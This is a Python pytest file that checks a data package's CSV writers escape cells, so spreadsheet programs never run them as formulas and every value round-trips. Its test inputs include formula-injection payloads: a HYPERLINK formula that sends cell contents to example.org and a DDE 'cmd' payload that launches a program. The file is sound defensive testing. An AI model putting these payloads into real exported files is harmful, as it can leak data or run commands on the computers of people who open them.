"""CSV files: no cell is executed as a formula, and every value round-trips."""

import csv
import io
import random
from pathlib import Path

import pytest

import triptych
from tests.data.dataset_replicas import WAV, write_file
from triptych.auditing.suspects import Suspect, write_suspects
from triptych.csv_files import format_csv, read_rows
from triptych.data import manifest
from triptych.data.datasets.draft import DraftItem, ManifestDraft
from triptych.data.datasets.manifest_writer import Origin, write_manifest
from triptych.data.label_noise import Swap, read_swaps, write_swaps
from triptych.search.scan import SkippedPath, write_not_indexed
from triptych.studies.page import Study, StudyResult, write_page

HYPERLINK_FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
FORMULAS = [
    HYPERLINK_FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\uff1d1+1",
    "'=1",
    "''-x",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read_cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def find_formula_cells(path):
    """Return the cells that a spreadsheet program would execute."""
    return [cell for cell in read_cells(path) if cell.lstrip(" ").startswith(FORMULA_STARTS) and not is_number(cell)]


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "'quoted'", "a=b", "", "'", "-0.5", "+1e-7", "-inf", "[=x]"])
def test_texts_round_trip_and_none_is_a_formula(value):
    text = format_csv(["a", "b"], [{"a": value, "b": "x"}, {"b": value}])
    assert read_rows(io.StringIO(text, newline="")) == [{"a": value, "b": "x"}, {"a": "", "b": value}]
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS) and not is_number(cell)]


def test_random_texts_round_trip():
    rng = random.Random(0)
    values = ["".join(rng.choices("'=+-@\t\r\n ,\"1a", k=rng.randint(0, 6))) for _ in range(2000)]
    text = format_csv(["a", "b"], [{"a": value, "b": "x"} for value in values])
    assert [row["a"] for row in read_rows(io.StringIO(text, newline=""))] == values


def test_numbers_are_not_escaped():
    assert (
        format_csv(["a", "b", "c", "d"], [{"a": -1, "b": -0.5, "c": "-1.5e-07", "d": None}])
        == "a,b,c,d\n-1,-0.5,-1.5e-07,\n"
    )


def test_a_manifest_with_formulas_round_trips_escaped(tmp_path):
    items = [
        DraftItem(
            f"{formula.strip()} {index}",
            files={"audio": write_file(tmp_path / f"=x{index}.wav", WAV)},
            texts=(formula.strip(),),
            group=formula.strip(),
            split="-train",
            label="@label",
        )
        for index, formula in enumerate(FORMULAS)
    ]
    result = write_manifest(ManifestDraft(items), tmp_path / "m.csv", Origin("test", {}, "mine"))
    assert find_formula_cells(result.path) == []
    rows = manifest.read(result.path).rows
    assert [(r.id, r.audio, r.texts, r.group, r.split, r.label) for r in rows] == [
        (item.id, item.files["audio"], item.texts, item.group, item.split, item.label) for item in items
    ]


def test_other_csv_files_hold_no_formulas(tmp_path):
    swaps = [Swap(HYPERLINK_FORMULA, "text", "@b")]
    write_swaps(tmp_path / "swaps.csv", swaps)
    assert read_swaps(tmp_path / "swaps.csv") == swaps
    write_file(tmp_path / "a.wav", WAV)
    write_file(tmp_path / "m.jsonl", '{"id": "=1", "audio": "a.wav", "text": "@x"}\n')
    rows = manifest.read(tmp_path / "m.jsonl").rows
    suspect = Suspect(0, "wrong", ("audio", "text"), "text", None, 0.9, 0.1, -0.2, 0, None, 0.3)
    write_suspects(tmp_path / "suspects.csv", [suspect], rows)
    write_page(
        tmp_path,
        "study",
        Study("why?", "so", int, lambda *_: StudyResult({}, [], lambda figure: None)),
        "x",
        StudyResult({"t": [{"a": HYPERLINK_FORMULA, "b": -1.5}]}, [], lambda figure: None),
    )
    write_not_indexed(tmp_path / "not-indexed.tsv", {}, [SkippedPath(Path(HYPERLINK_FORMULA), "@reason")])
    assert "\n'=HYPERLINK" in (tmp_path / "not-indexed.tsv").read_text()
    assert "\t'@reason" in (tmp_path / "not-indexed.tsv").read_text()
    for name in ("swaps.csv", "suspects.csv", "study.csv"):
        assert find_formula_cells(tmp_path / name) == []


def test_only_csv_files_py_writes_csv_files():
    package = Path(triptych.__file__).parent
    writers = [
        path.name
        for path in package.rglob("*.py")
        if "csv.DictWriter" in (text := path.read_text()) or "csv.writer" in text
    ]
    assert writers == ["csv_files.py"]
